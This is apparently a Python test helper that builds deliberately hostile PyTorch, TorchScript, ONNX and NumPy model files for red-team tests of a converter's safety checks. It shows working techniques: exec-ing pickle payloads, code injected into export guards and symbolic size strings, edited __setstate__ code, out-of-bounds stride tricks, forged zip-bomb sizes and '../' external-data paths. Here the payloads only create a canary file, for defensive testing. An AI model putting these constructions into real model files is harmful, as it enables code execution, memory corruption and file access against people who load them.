"""Hostile model files for the red-team corpus (tests/converter/test_redteam.py, tests/service/test_redteam.py).

Each builder writes a file that, if any code of it ran, would create the *canary* file it is given (a path
outside every job folder). They are made from small real models by editing the saved archive the way an
attacker would, so every one is also a test that the static checks read the file the way torch reads it.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
import torch.nn as nn


class SmallNet(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3, padding=1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.conv(x))


def _touch(canary: Path) -> str:
    """Python that creates the canary."""
    return f"open({str(canary)!r}, 'w').write('pwned')"


def _rewrite_zip(src: Path, dest: Path, edit: Callable[[str, bytes], tuple[str, bytes] | None],
                 extra: dict[str, bytes] | None = None) -> Path:
    """Copy a zip member by member through ``edit(name, data)`` (None drops the member), adding ``extra``."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w") as zout:
        for info in zin.infolist():
            out = edit(info.filename, zin.read(info))
            if out is not None:
                zout.writestr(out[0], out[1])
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dest


# --- .pt2 --------------------------------------------------------------------------------------------------------


_PT2_CACHE: dict[bool, bytes] = {}


def save_pt2(dest: Path, *, dynamic: bool = False) -> Path:
    """SmallNet exported (batch and a square spatial size dynamic with ``dynamic``); exported once a process."""
    if dynamic not in _PT2_CACHE:
        torch.manual_seed(0)
        x = torch.randn(2, 3, 8, 8)
        shapes = None
        if dynamic:
            h = torch.export.Dim("H", min=4, max=64)
            shapes = {"x": {0: torch.export.Dim("B", min=1, max=16), 2: h, 3: h}}
        torch.export.save(torch.export.export(SmallNet().eval(), (x,), dynamic_shapes=shapes), str(dest))
        _PT2_CACHE[dynamic] = dest.read_bytes()
    dest.write_bytes(_PT2_CACHE[dynamic])
    return dest


def _edit_model_json(src: Path, dest: Path, change: Callable[[dict], None]) -> Path:
    def edit(name: str, data: bytes) -> tuple[str, bytes]:
        if "/models/" in name and name.endswith(".json"):
            program = json.loads(data)
            change(program)
            return name, json.dumps(program).encode()
        return name, data

    return _rewrite_zip(src, dest, edit)


def pt2_guards_code(canary: Path, dest: Path) -> Path:
    """A guard that is Python: pasted into the guard function ``ExportedProgram.module()`` builds (``exec``), run
    on every call of the module."""
    base = save_pt2(dest.with_suffix(".base.pt2"), dynamic=True)
    guard = f"__import__('pathlib').Path('{canary}').touch() is None"
    return _edit_model_json(base, dest, lambda p: p.__setitem__("guards_code", [guard]))


def pt2_expr_str(canary: Path, dest: Path) -> Path:
    """A symbolic size that is Python: ``sympy.sympify`` evaluates it."""
    base = save_pt2(dest.with_suffix(".base.pt2"), dynamic=True)
    evil = f"__import__('builtins').exec({_touch(canary)!r}) or Symbol('s0')"

    def change(program: dict) -> None:
        text = json.dumps(program)
        first = text.index('"expr_str": "') + len('"expr_str": "')
        end = text.index('"', first)
        program.clear()
        program.update(json.loads(text[:first] + json.dumps(evil)[1:-1] + text[end:]))

    return _edit_model_json(base, dest, change)


class _Pwn:
    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple:
        return (exec, (f"open({self.canary!r}, 'w').write('pwned')",))


def evil_pickle(canary: Path) -> bytes:
    return pickle.dumps(_Pwn(str(canary)))


def pt2_legacy_weights(canary: Path, dest: Path) -> Path:
    """A legacy ``data/weights/model.pt``: torch reads it instead of the weights config and unpickles it."""
    base = save_pt2(dest.with_suffix(".base.pt2"))
    root = zipfile.ZipFile(base).namelist()[0].split("/")[0]
    return _rewrite_zip(base, dest, lambda n, d: (n, d), {f"{root}/data/weights/model.pt": evil_pickle(canary)})


def pt2_enum_treespec(canary: Path, dest: Path) -> Path:
    """A tree spec whose context names an enum: torch's pytree loader imports its module by name (here
    ``tests.utils.import_canary``, whose import writes ``$SEPCONV_TEST_CANARY``)."""
    base = save_pt2(dest.with_suffix(".base.pt2"))
    enum = {"__enum__": True, "fqn": "tests.utils.import_canary:Color", "name": "RED"}

    def change(program: dict) -> None:
        sig = program["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(sig["in_spec"])
        spec[1]["children_spec"][1]["context"] = json.dumps([enum])
        sig["in_spec"] = json.dumps(spec)

    return _edit_model_json(base, dest, change)


# --- TorchScript ----------------------------------------------------------------------------------------------------


def save_torchscript(dest: Path, module: nn.Module | None = None) -> Path:
    torch.manual_seed(0)
    torch.jit.save(torch.jit.script((module or SmallNet()).eval()), str(dest))
    return dest


def _with_setstate(canary: Path, dest: Path, *, spelling: str, rename: Callable[[str], str] = lambda n: n) -> Path:
    """SmallNet with a scripted ``__setstate__`` written into its code file as ``spelling``."""
    from tests.utils.hostile_models import SetStateNet

    base = dest.with_suffix(".base.pt")
    torch.jit.save(torch.jit.script(SetStateNet(str(canary)).eval()), str(base))

    def edit(name: str, data: bytes) -> tuple[str, bytes]:
        if name.endswith(".py") and b"def __setstate__(" in data:
            data = data.replace(b"def __setstate__(", spelling.encode())
            # scripting drops an unused ``fill_``: write the serialized code by hand, as an attacker would
            data = data.replace(b"    self.training = (state)[1]\n", b"    self.training = (state)[1]\n"
                                b"    _x = torch.fill_(torch.from_file(self.path, True, 16, dtype=0), 65)\n"
                                b"    self.training = bool(torch.gt(torch.sum(_x), 0))\n")
            return rename(name), data
        return name, data

    return _rewrite_zip(base, dest, edit)


def ts_setstate_continuation(canary: Path, dest: Path) -> Path:
    return _with_setstate(canary, dest, spelling="def \\\n__setstate__(")


def ts_setstate_upper_dir(canary: Path, dest: Path) -> Path:
    return _with_setstate(canary, dest, spelling="def __setstate__(",
                          rename=lambda n: n.replace("/code/", "/CODE/"))


def ts_setstate_upper_suffix(canary: Path, dest: Path) -> Path:
    return _with_setstate(canary, dest, spelling="def __setstate__(", rename=lambda n: n[:-3] + ".PY")


def ts_interface_method(canary: Path, dest: Path) -> Path:
    """The file op inside a class method that ``forward`` reaches only through an interface-typed attribute."""
    script = f'''
import torch
import torch.nn as nn

@torch.jit.interface
class Op:
    def run(self, x: torch.Tensor) -> torch.Tensor:
        pass

@torch.jit.script
class Impl:
    def __init__(self, p: str):
        self.p = p

    def run(self, x: torch.Tensor) -> torch.Tensor:
        return x + torch.from_file(self.p, shared=True, size=16, dtype=torch.uint8).fill_(65).float().sum() * 0

class Net(nn.Module):
    impl: Op

    def __init__(self, p: str):
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3, padding=1)
        self.impl = Impl(p)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.impl.run(self.conv(x))

torch.jit.save(torch.jit.script(Net({str(canary)!r}).eval()), {str(dest)!r})
'''
    _run_python(script, dest)
    return dest


def _run_python(script: str, dest: Path) -> None:
    # TorchScript compiles classes from their source file: write the module out and run it in a fresh process.
    import subprocess
    import sys

    src = dest.with_suffix(".build.py")
    src.write_text(script)
    subprocess.run([sys.executable, str(src)], check=True, capture_output=True, cwd=dest.parent)


# --- raw strides ---------------------------------------------------------------------------------------------------


class _ReshapeAlias(nn.Module):
    """``_reshape_alias`` with strides far outside the conv's output: reads and writes outside the tensor."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3, padding=1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = torch.ops.aten._reshape_alias(self.conv(x), [4096], [1 << 20])
        return y.fill_(1.0).sum() + self.conv(x)


def ts_reshape_alias(canary: Path, dest: Path) -> Path:
    return save_torchscript(dest, _ReshapeAlias())


class _Strided(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.as_strided(x, (2, 8), (8, 1)) * 2


def pt2_as_strided(canary: Path, dest: Path) -> Path:
    """An in-bounds ``as_strided`` exported, then edited to reach far outside its input."""
    base = dest.with_suffix(".base.pt2")
    torch.export.save(torch.export.export(_Strided(), (torch.randn(4, 4),)), str(base))

    def change(program: dict) -> None:
        for node in program["graph_module"]["graph"]["nodes"]:
            if "as_strided" in node["target"]:
                node["inputs"][1]["arg"]["as_ints"] = [4096]
                node["inputs"][2]["arg"]["as_ints"] = [1 << 20]

    return _edit_model_json(base, dest, change)


# --- caps -----------------------------------------------------------------------------------------------------------


def _declare_size(path: Path, member: str, size: int) -> Path:
    """Patch a zip so that ``member`` declares ``size`` uncompressed bytes (a bomb's declaration, cheaply)."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (i := data.find(sig, start)) >= 0:
            start = i + 4
            name_at = i + (30 if sig == b"PK\x03\x04" else 46)
            n = int.from_bytes(data[i + (26 if sig == b"PK\x03\x04" else 28):][:2], "little")
            if bytes(data[name_at:name_at + n]) == name:
                data[i + size_at:i + size_at + 4] = size.to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


def ts_zip_bomb(canary: Path, dest: Path) -> Path:
    """A TorchScript archive with a member declaring 4 GiB (torch's reader allocates what is declared)."""
    base = save_torchscript(dest.with_suffix(".base.pt"))
    root = zipfile.ZipFile(base).namelist()[0].split("/")[0]
    _rewrite_zip(base, dest, lambda n, d: (n, d), {f"{root}/extra/blob": b"\0" * 1024})
    return _declare_size(dest, f"{root}/extra/blob", 0xFFFFFFF0)


def pt2_zip_bomb(canary: Path, dest: Path) -> Path:
    base = save_pt2(dest.with_suffix(".base.pt2"))
    root = zipfile.ZipFile(base).namelist()[0].split("/")[0]
    _rewrite_zip(base, dest, lambda n, d: (n, d), {f"{root}/extra/blob": b"\0" * 1024})
    return _declare_size(dest, f"{root}/extra/blob", 0xFFFFFFF0)


def npz_rows_2e40(dest: Path) -> Path:
    """An ``.npz`` whose ``.npy`` header declares 2^40 rows of 3×32×32 floats (and holds a few bytes)."""
    import numpy as np

    header = {"descr": "<f4", "fortran_order": False, "shape": (2**40, 3, 32, 32)}
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, header)
    with zipfile.ZipFile(dest, "w") as z:
        z.writestr("inputs.npy", buf.getvalue() + b"\0" * 64)
    return dest


def npz_bomb(dest: Path) -> Path:
    """An ``.npz`` member declaring 4 GiB unpacked (and holding 1 KiB)."""
    import numpy as np

    np.savez_compressed(dest, inputs=np.zeros((1, 3, 32, 32), np.float32))
    return _declare_size(dest, "inputs.npy", 0xFFFFFFF0)


# --- ONNX ------------------------------------------------------------------------------------------------------------


def _onnx_conv():
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.random.default_rng(0).standard_normal((8, 3, 3, 3)).astype(np.float32), "W")
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3, 32, 32])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, None)
    graph = helper.make_graph([helper.make_node("Conv", ["x", "W"], ["y"], pads=[1, 1, 1, 1])], "g", [x], [y], [w])
    return onnx.helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def onnx_huge_initializer(canary: Path, dest: Path) -> Path:
    """An initializer declaring 2^40 elements and holding 216 values."""
    model = _onnx_conv()
    del model.graph.initializer[0].dims[:]
    model.graph.initializer[0].dims.extend([2**20, 2**20, 1, 1])
    dest.write_bytes(model.SerializeToString())
    return dest


def onnx_sparse_external(canary: Path, dest: Path) -> Path:
    """A sparse initializer whose values are 'stored' in a file outside the model's folder."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    model = _onnx_conv()
    sparse = helper.make_sparse_tensor(numpy_helper.from_array(np.ones(2, np.float32), "S"),
                                       numpy_helper.from_array(np.array([0, 1], np.int64), "S_idx"), [4])
    sparse.values.data_location = TensorProto.EXTERNAL
    del sparse.values.float_data[:]
    sparse.values.external_data.add(key="location", value=str(canary.parent / "secret.bin"))
    model.graph.sparse_initializer.append(sparse)
    dest.write_bytes(model.SerializeToString())
    return dest


def onnx_external_outside(canary: Path, dest: Path) -> Path:
    """A dense initializer whose data is 'stored' in a file outside the model's folder (``../``)."""
    from onnx import TensorProto

    model = _onnx_conv()
    w = model.graph.initializer[0]
    w.data_location = TensorProto.EXTERNAL
    w.ClearField("raw_data")
    w.ClearField("float_data")
    w.external_data.add(key="location", value="../secret.bin")
    dest.write_bytes(model.SerializeToString())
    return dest
